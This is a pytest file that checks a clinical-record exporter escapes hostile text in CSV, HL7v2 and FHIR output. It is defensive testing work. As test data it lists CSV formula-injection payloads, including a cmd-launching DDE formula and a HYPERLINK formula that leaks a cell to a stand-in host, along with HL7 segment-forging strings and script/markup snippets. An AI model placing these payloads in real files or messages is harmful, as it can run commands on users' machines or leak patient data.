"""Hostile words on their way out: a spreadsheet runs none of them, no segment and no message begins in them."""

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recon.delivery import csvfile
from recon.delivery.csvfile import guarded, unguarded
from recon.delivery.extract import mapping_of
from recon.delivery.extract.csv_text import from_bytes, text_of, to_bytes
from recon.delivery.fhir import bundle
from recon.delivery.hl7v2 import Hl7Profile, drafts
from recon.delivery.hl7v2.text import segment
from recon.model.form import Kind
from recon.model.record import SheetRecord
from recon.reconciliation.hl7text import parse
from tests.helpers.hl7_sheets import PLAIN, SENT
from tests.helpers.sheet_records import PRINTED, Scans, patient, record, vitals

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://elsewhere.invalid/?leak="&A1,"more")',
    "＝1+1",
    "''=1+1",
    "- agité",
)
NUMBERS = ("-3.5", "-3,5", "37.5", "0", "-12")
INJECTIONS = (
    "calme\rPID|1||9999^^^HOSP^PI",
    "calme\nOBX|2|NM|8867-4^^LN||300",
    "calme|N|||F",
    "a^b&c~d",
    "\\X0D\\PID|1||9999",
    "\\.br\\OBX|2",
    "fin\x1c\r\x0bMSH|^~\\&|FAUX",
    "\u2028PID|1",
    '""',
    "\\",
    "\\F",
)
STARTS = tuple("=+-@\t\r\n＝＋－＠")


SCANS = Scans()


def hostile_sheet(text: str) -> SheetRecord:
    """Return a sheet whose patient and whose words are ``text``."""
    plain = record("heart_rate", None, coding=None, unit="", decimals=0, group="", event=PRINTED)
    words = replace(plain, field="notes", kind=Kind.TEXT, value=text, label=text)
    sheet = vitals(rows=1, scans=SCANS, who=patient(birth_name=text, used_name=text, ward=text))
    return replace(sheet, records=(*sheet.records, words))


def messages(text: str, profile: Hl7Profile = PLAIN) -> list[bytes]:
    made = drafts(hostile_sheet(text), profile=profile, load=SCANS.load)
    return [draft.message("0A1", SENT, profile).data for draft in made]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_in_every_csv_file(text: str, tmp_path: Path) -> None:
    out = tmp_path / "values.csv"
    csvfile.write([hostile_sheet(text)], out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert sum(unguarded(cell) == text for cell in cells) >= 4
    assert not [cell for cell in cells if cell.startswith(STARTS) and cell not in NUMBERS]
    given = mapping_of({})
    row = tuple(text for _ in given.columns)
    written = to_bytes([text_of([row], given)], given)
    assert b"\n=" not in written
    assert b",=" not in written
    assert [row] in from_bytes(written, given).values()


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number: str) -> None:
    assert guarded(number) == number == unguarded(number)


@given(st.text())
def test_whatever_it_was_it_can_be_had_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_word_of_a_sheet_begins_a_segment_or_a_message(text: str) -> None:
    for data, harmless in zip(messages(text), messages("calme"), strict=True):
        assert not {0x0B, 0x1C} & {*data}
        assert b"\n" not in data
        assert [line[:4] for line in data.split(b"\r")] == [line[:4] for line in harmless.split(b"\r")]
        assert "9999" not in parse(data).field("PID", 3)


@given(st.text(), st.text())
def test_any_two_texts_stay_in_their_fields(one: str, other: str) -> None:
    written = segment("OBX", {1: "1", 5: one, 6: (one, other), 7: "end"})
    assert written.split("|")[7:] == ["end"]
    assert not set(written) & set("\r\n\v\f\x1c\x85\u2028\u2029")
    assert len(written.split("|")[6].split("^")) <= 2


@pytest.mark.parametrize("text", [*INJECTIONS, "<img src='file:///etc/passwd'>", "</div><script>", "]]>", "&amp;"])
def test_fhir_says_the_words_as_they_are_and_no_markup_with_them(text: str) -> None:
    made = bundle(hostile_sheet(text), load=SCANS.load)
    again = json.loads(json.dumps(made))
    assert again == made
    assert "<div" not in json.dumps(made).replace(json.dumps(text)[1:-1], "")


def test_a_profile_of_another_version_changes_nothing_about_that() -> None:
    for profile in (Hl7Profile(version="2.3.1", charset="8859/1"), Hl7Profile(version="2.4")):
        for data in messages("calme\rPID|1", profile):
            assert [line[:3] for line in data.split(b"\r")].count(b"PID") == 1
